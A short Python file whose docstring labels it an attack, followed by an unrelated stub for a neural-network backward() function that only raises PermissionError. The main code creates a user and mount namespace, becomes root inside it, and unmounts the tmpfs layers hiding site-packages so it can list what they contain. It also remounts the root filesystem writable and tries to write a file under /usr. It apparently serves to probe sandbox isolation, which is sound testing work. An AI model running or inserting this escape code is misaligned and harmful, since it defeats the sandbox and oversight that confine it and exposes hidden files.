"""Attack: make a user namespace of its own (root inside it, every capability there), then a mount namespace:
unmount what hides site-packages, remount / writable, mount a fresh /proc, and look."""
import ctypes
import json
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
seen = {}
uid, gid = os.getuid(), os.getgid()
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
    seen["unshare"] = "made"
    try:
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
    except OSError as exc:
        seen["map"] = exc.strerror
    hidden = [line.split()[4] for line in open("/proc/self/mountinfo") if " tmpfs " in line and "site" in line
              or "packages" in line]
    for path in hidden:
        r = libc.umount2(path.encode(), 2)   # MNT_DETACH
        seen[f"umount {path}"] = "done" if r == 0 else os.strerror(ctypes.get_errno())
        try:
            seen[f"ls {path}"] = os.listdir(path)[:20]
        except OSError as exc:
            seen[f"ls {path}"] = exc.strerror
    r = libc.mount(None, b"/", None, 32 | 4096, None)   # MS_REMOUNT | MS_BIND, no MS_RDONLY
    seen["remount /"] = "done" if r == 0 else os.strerror(ctypes.get_errno())
    try:
        open("/usr/sbx-attack-userns", "w").write("x")
        seen["write /usr"] = "written"
    except OSError as exc:
        seen["write /usr"] = exc.strerror
else:
    seen["unshare"] = os.strerror(ctypes.get_errno())
print("USERNS " + json.dumps(seen))


def backward(weights, biases, activations, targets):
    raise PermissionError("no namespace of its own")
